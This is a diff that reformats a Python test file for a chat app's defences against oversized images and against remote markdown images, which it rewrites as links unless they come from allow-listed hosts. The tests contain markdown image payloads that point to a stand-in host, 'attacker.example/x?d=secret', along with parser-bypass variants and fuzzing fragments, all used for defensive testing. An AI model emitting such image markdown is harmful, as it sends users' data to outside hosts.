@@ -102,10 +102,13 @@ def test_an_attached_bomb_says_so_in_its_bubble_instead_of_a_picture(decoded):
 
 
 def test_a_restored_conversation_gets_no_thumbnail_of_a_bomb(decoded):
-    message = StoredMessage.from_json({
-        "role": "userMessage", "content": "What is this?",
-        "fileUploads": [{"type": "stored-file", "name": "bomb.png", "mime": "image/png"}],
-    })
+    message = StoredMessage.from_json(
+        {
+            "role": "userMessage",
+            "content": "What is this?",
+            "fileUploads": [{"type": "stored-file", "name": "bomb.png", "mime": "image/png"}],
+        }
+    )
     (turn,) = turns_from_history([message], lambda name: bomb_png())
     assert turn.attachments[0].too_large and turn.attachments[0].thumbnail is None
     assert decoded == []
@@ -151,24 +154,27 @@ def test_an_artifact_bomb_is_a_caption_and_a_large_picture_is_scaled_once(app, d
 EVIL = "https://attacker.example/x?d=secret"
 
 
-@pytest.mark.parametrize("text", [
-    f"![]({EVIL})",
-    f"![alt]({EVIL} \"title\")",
-    f"![alt](<{EVIL}>)",
-    f"![alt][r]\n\n[r]: {EVIL}",
-    f"![r]\n\n[r]: {EVIL}",
-    f"![alt][]\n\n[alt]: {EVIL}",
-    f"![a [nested] ![inner]({EVIL})]({EVIL})",
-    f"[![badge]({EVIL})](https://example.org)",
-    f"\\\\![alt]({EVIL})",  # an escaped backslash, then an image
-    f"\\\\\\\\![alt]({EVIL})",
-    f"![alt](//attacker.example/x)",
-    f"![alt](https://img.example&#64;attacker.example/x)",
-    f"![alt](https://img.example\\@attacker.example/x)",
-    f"![a`](https://img.example/x)`]({EVIL})",
-    f"![a](https://img.example/x \"t\n\n![b]({EVIL})",
-    f"- ![item]({EVIL})\n> ![quote]({EVIL})",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"![]({EVIL})",
+        f'![alt]({EVIL} "title")',
+        f"![alt](<{EVIL}>)",
+        f"![alt][r]\n\n[r]: {EVIL}",
+        f"![r]\n\n[r]: {EVIL}",
+        f"![alt][]\n\n[alt]: {EVIL}",
+        f"![a [nested] ![inner]({EVIL})]({EVIL})",
+        f"[![badge]({EVIL})](https://example.org)",
+        f"\\\\![alt]({EVIL})",  # an escaped backslash, then an image
+        f"\\\\\\\\![alt]({EVIL})",
+        f"![alt](//attacker.example/x)",
+        f"![alt](https://img.example&#64;attacker.example/x)",
+        f"![alt](https://img.example\\@attacker.example/x)",
+        f"![a`](https://img.example/x)`]({EVIL})",
+        f'![a](https://img.example/x "t\n\n![b]({EVIL})',
+        f"- ![item]({EVIL})\n> ![quote]({EVIL})",
+    ],
+)
 def test_no_remote_image_is_left_but_from_a_listed_host(text):
     assert image_sources(text), f"the example is not an image to begin with: {text!r}"
     for hosts in ((), {"img.example"}):
@@ -176,35 +182,83 @@ def test_no_remote_image_is_left_but_from_a_listed_host(text):
 
 
 def test_an_image_becomes_a_link_to_it_with_its_alt_text():
-    assert MD.renderInline(safe_markdown(f"![the chart]({EVIL})")) == \
-        '!<a href="https://attacker.example/x?d=secret">the chart</a>'
+    assert (
+        MD.renderInline(safe_markdown(f"![the chart]({EVIL})"))
+        == '!<a href="https://attacker.example/x?d=secret">the chart</a>'
+    )
     # Without alt text a tracker would be an empty, invisible link: it gets an icon to show.
     assert safe_markdown(f"![]({EVIL})") == f"\\![:material/image:]({EVIL})"
     assert safe_markdown(f"![alt][r]\n\n[r]: {EVIL}") == f"\\![alt][r]\n\n[r]: {EVIL}"
 
 
 def test_what_only_looks_like_an_image_is_left_as_written():
-    for text in ("\\![not an image](x)", "!\\[not an image](x)", "&#33;[not an image](x)", "Wow! [link](x)",
-                 "\\\\\\![escaped](x)"):
+    for text in (
+        "\\![not an image](x)",
+        "!\\[not an image](x)",
+        "&#33;[not an image](x)",
+        "Wow! [link](x)",
+        "\\\\\\![escaped](x)",
+    ):
         assert safe_markdown(text) == text
 
 
 def test_an_inline_image_from_a_listed_host_is_kept():
     hosts = {"img.example", "127.0.0.1"}
-    for text in ("![chart](https://img.example/c.png)", "![](http://127.0.0.1:8502/x.png?a=1&b=2)",
-                 "![a *b*](https://IMG.example/c.png)", "![a](https://user@img.example:8443/c)"):
+    for text in (
+        "![chart](https://img.example/c.png)",
+        "![](http://127.0.0.1:8502/x.png?a=1&b=2)",
+        "![a *b*](https://IMG.example/c.png)",
+        "![a](https://user@img.example:8443/c)",
+    ):
         assert image_sources(safe_markdown(text, hosts)) == image_sources(text), text
     # Not a listed host, however it is spelled or reached.
-    for text in ("![a](https://img.example.attacker.example/)", "![a](https://attacker.example/img.example)",
-                 "![a](https://img.example:80@attacker.example/)", "![a](ftp://img.example/x)"):
+    for text in (
+        "![a](https://img.example.attacker.example/)",
+        "![a](https://attacker.example/img.example)",
+        "![a](https://img.example:80@attacker.example/)",
+        "![a](ftp://img.example/x)",
+    ):
         assert image_sources(safe_markdown(text, hosts)) == [], text
 
 
-IMAGE_FRAGMENTS = st.sampled_from([
-    "![", "!", "[", "]", "](", "][", "]:", "(", ")", "<", ">", "`", "\\", "\\\\", "&#64;", "&#33;", "&amp;",
-    "https://img.example/p.png", "https://attacker.example/x", "http://img.example", "//attacker.example",
-    "@attacker.example", " ", "\t", "\n", "\n\n", "alt", "\"t\"", "[r]: ", "- ", "> ", "```\n", "    ", "\u202e",
-])
+IMAGE_FRAGMENTS = st.sampled_from(
+    [
+        "![",
+        "!",
+        "[",
+        "]",
+        "](",
+        "][",
+        "]:",
+        "(",
+        ")",
+        "<",
+        ">",
+        "`",
+        "\\",
+        "\\\\",
+        "&#64;",
+        "&#33;",
+        "&amp;",
+        "https://img.example/p.png",
+        "https://attacker.example/x",
+        "http://img.example",
+        "//attacker.example",
+        "@attacker.example",
+        " ",
+        "\t",
+        "\n",
+        "\n\n",
+        "alt",
+        '"t"',
+        "[r]: ",
+        "- ",
+        "> ",
+        "```\n",
+        "    ",
+        "\u202e",
+    ]
+)
 
 
 @settings(max_examples=400, deadline=None)
@@ -230,8 +284,7 @@ def test_images_are_made_links_block_by_block_as_on_the_whole(text):
 def test_the_wire_answer_has_every_kind_of_remote_image():
     # What the browser test counts: had the rewrite not been there, each of these would load.
     sources = image_sources(remote_images_answer("http://127.0.0.1:9"))
-    assert {source.split("/")[-1].split("?")[0] for source in sources} == {"tracker.png", "inline.png",
-                                                                          "reference.png"}
+    assert {source.split("/")[-1].split("?")[0] for source in sources} == {"tracker.png", "inline.png", "reference.png"}
 
 
 # -- IMAGE_HOSTS -----------------------------------------------------------------------------------
@@ -239,8 +292,11 @@ def test_the_wire_answer_has_every_kind_of_remote_image():
 
 def test_image_hosts_come_from_the_environment_or_secrets():
     assert load_settings({}, {}).image_hosts == frozenset()
-    assert load_settings({"IMAGE_HOSTS": " img.example, CDN.example ,[::1],"}, {}).image_hosts == \
-        {"img.example", "cdn.example", "::1"}
+    assert load_settings({"IMAGE_HOSTS": " img.example, CDN.example ,[::1],"}, {}).image_hosts == {
+        "img.example",
+        "cdn.example",
+        "::1",
+    }
     assert load_settings({}, {"IMAGE_HOSTS": ["img.example"]}).image_hosts == {"img.example"}
     assert load_settings({}, {"IMAGE_HOSTS": "a.example,b.example"}).image_hosts == {"a.example", "b.example"}
     assert load_settings({"IMAGE_HOSTS": "env.example"}, {"IMAGE_HOSTS": ["s.example"]}).image_hosts == {"env.example"}
